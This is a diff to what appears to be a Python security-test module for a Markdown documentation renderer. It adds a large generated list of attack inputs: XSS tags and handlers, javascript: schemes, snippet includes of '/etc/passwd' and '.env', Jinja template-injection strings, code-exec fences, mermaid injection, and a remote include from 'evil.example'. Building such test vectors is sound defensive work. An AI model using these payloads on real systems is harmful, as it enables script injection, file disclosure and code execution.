@@ -59,3 +59,54 @@ TEXTS = {
     "long": "x" * 500,
     "wiki": "[[Page]] ((x))",
 }
+
+_TAGS = ("script", "img", "svg", "iframe", "object", "embed", "a", "form", "style", "math")
+_HANDLERS = ("onerror", "onload", "onclick", "onfocus autofocus onfocus", "ontoggle open ontoggle")
+_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:")
+_BREAKS = ("", "</code>", '">', "-->", "]]>", "</textarea>", "</pre></div>")
+_FILES = ("secret.txt", ".env", "../secret.txt", "/etc/passwd")
+
+VECTORS = (
+    *(
+        f"{start}<{tag} src=x {on}=alert(1)>"
+        for start in _BREAKS
+        for tag in _TAGS
+        for on in _HANDLERS[:2]
+    ),
+    *(f"<{tag}/{on}=alert(1)//>x</{tag}>" for tag in _TAGS for on in _HANDLERS),
+    *(
+        f"<a href='{scheme}alert(1)'>x</a> [x]({scheme}alert(1)) <{scheme}alert(1)>"
+        for scheme in _SCHEMES
+    ),
+    *(f'--8<-- "{file}"' for file in _FILES),
+    *(f"--8<--\n{file}\n--8<--" for file in _FILES),
+    *(f'text\n\n--8<-- "{file}:1:2"\n\ntext' for file in _FILES),
+    *(f"{{% include '{file}' %}} {{{{ open('{file}').read() }}}}" for file in _FILES),
+    *(f"![x]({file}){{ onload=alert(1) }}" for file in _FILES),
+    *(
+        f"```python {how}\nopen('ran', 'w')\n```"
+        for how in ('exec="on"', "exec", '{exec="1"}', "{.evil}")
+    ),
+    *(
+        f"```{name}\ngraph TD\n A[<img src=x onerror=alert(1)>]\n```"
+        for name in ("mermaid", "math", "html")
+    ),
+    *(f"\x02wzxhzdk:{number}\x03" for number in range(12)),
+    *(f"\x02klzzwxh:{number:04d}\x03" for number in range(12)),
+    *(f"{start}evil: x" for start in ("*[HTML]: ", "[ref]: ", "[^1]: ", "[evil]: javascript:")),
+    '--8<-- "https://evil.example/x.md"',
+    '{{ config }} {{ "".__class__.__mro__ }} {{ environment.__init__.__globals__ }}',
+    '%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(//e.example)}"}}%%\n'
+    "graph TD\n A-->B",
+    'flowchart TD\n    A --> B\n    click A "javascript:alert(1)"\n    click B call alert(1)',
+    "/// html | script\nalert(1)\n///\n\n/// details | x\n    attrs: {onclick: alert(1)}\n///",
+    "<p markdown='1' onclick=alert(1)>*x*</p>\n\n<div markdown=block>\n[TOC]\n</div>",
+    "[](){#evil}\n\n[x][evil] <autoref identifier='evil' optional>x</autoref>",
+    "x\n{ #evil .evil onclick=alert(1) }\n\n| a |\n|---|\n| b | { onclick=alert(1) }",
+    "<!-- md:option x --> <!-- ::: howto a.b --> <howto-x>",
+    "::: howto shop.Basket\n    title: x\n\n## ::: howto shop.Basket\n\n::: shop",
+    "&#x6a;avascript: &colon; &lpar; &NewLine; &#0; &#xD800; &#99999999;",
+    "＜script＞alert(1)＜/script＞ \u2039script\u203a \x00<script\x00>alert(1)</script>",
+    "`</code><script>alert(1)</script>` `` `x` `` `\x02wzxhzdk:0\x03`",
+)
+"""More of the same kind, put together from the parts of known attacks."""
